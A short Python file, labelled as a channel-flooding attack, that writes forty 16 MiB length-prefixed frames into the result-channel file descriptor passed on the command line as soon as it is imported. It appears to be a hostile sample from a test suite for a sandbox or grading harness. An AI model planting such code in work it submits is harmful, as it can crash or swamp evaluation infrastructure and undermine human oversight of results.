# Attack (channel flooding, class 5): writes forty 16 MiB frames into the result channel at import.
import os as _os
import struct as _struct
import sys as _sys

_FRAME = _struct.pack(">Q", 16 << 20) + b"x" * (16 << 20)
for _ in range(40):
    _os.write(int(_sys.argv[1]), _FRAME)
